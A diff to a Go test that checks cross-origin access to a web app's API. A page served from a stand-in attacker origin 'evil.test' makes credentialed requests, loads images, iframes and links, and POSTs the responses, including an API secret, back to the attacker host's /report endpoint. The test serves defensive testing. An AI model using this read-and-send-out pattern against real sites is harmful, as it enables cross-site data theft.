@@ -332,11 +332,20 @@ func TestFriendlyPage(t *testing.T) {
 	home := f.attacker.origin("evil.test")
 	const play = `<!doctype html><body><script type="module">
 		const texts = []
-		for (const [method, options] of [['GET', {}], ['POST', {body: '{}', headers: {'Content-Type': 'application/json'}}],
+		for (const [method, options] of [['GET', {}], ['GET', {credentials: 'include'}], ['HEAD', {credentials: 'include'}], ['POST', {body: '{}', headers: {'Content-Type': 'application/json'}}],
 				['PUT', {body: '{}'}], ['DELETE', {headers: {'X-Custom': '1'}}]]) {
-			texts.push(await fetch('%s/play?of=' + location.hostname, {method, ...options}).then(r => r.text(), String))
+			texts.push(await fetch('%[1]s/play?of=' + location.hostname, {method, ...options}).then(r => r.text(), String))
 		}
-		await fetch('%s/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({page: location.hostname,
+		const load = (name, properties) => new Promise(done => {
+			const e = Object.assign(document.createElement(name), properties)
+			e.onload = e.onerror = done
+			document.body.append(e)
+		})
+		await load('img', {src: '%[1]s/led?by=img'})
+		await load('iframe', {src: '%[1]s/led?by=iframe'})
+		await load('iframe', {name: 'linked'})
+		Object.assign(document.createElement('a'), {href: '%[1]s/led?by=link', target: 'linked'}).click()
+		await fetch('%[2]s/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({page: location.hostname,
 			attacks: texts, reads: []})})
 	</script>`
 	f.attacker.serve("/friend", fmt.Sprintf(play, "http://"+f.app, home))
@@ -344,10 +353,19 @@ func TestFriendlyPage(t *testing.T) {
 	for _, url := range []string{f.attacker.origin(friend) + "/friend", "http://" + f.app + "/own"} {
 		open(t, url)
 		r := f.report()
-		if want := slices.Repeat([]string{apiSecret}, 4); !slices.Equal(r.Attacks, want) {
+		if want := []string{apiSecret, apiSecret, "", apiSecret, apiSecret, apiSecret}; !slices.Equal(r.Attacks, want) {
 			t.Errorf("the page at %s got %q, want %q", r.Page, r.Attacks, want)
 		}
 	}
+	await(t, browsing, "both pages load an image, a frame and a link", func() bool {
+		led := map[string]int{}
+		for _, r := range f.api.requests() {
+			if r.URL.Path == "/led" {
+				led[r.FormValue("by")]++
+			}
+		}
+		return led["img"] == 2 && led["iframe"] == 2 && led["link"] == 2
+	})
 	played := map[string]int{}
 	for _, r := range f.api.requests() {
 		if r.URL.Path == "/play" {
@@ -355,9 +373,9 @@ func TestFriendlyPage(t *testing.T) {
 		}
 	}
 	for _, page := range []string{friend, "127.0.0.1"} {
-		for _, method := range []string{"GET", "POST", "PUT", "DELETE"} {
-			if played[page+" "+method] != 1 {
-				t.Errorf("the API got %d requests %s of the page at %s, want 1", played[page+" "+method], method, page)
+		for method, want := range map[string]int{"GET": 2, "HEAD": 1, "POST": 1, "PUT": 1, "DELETE": 1} {
+			if got := played[page+" "+method]; got != want {
+				t.Errorf("the API got %d requests %s of the page at %s, want %d", got, method, page, want)
 			}
 		}
 	}
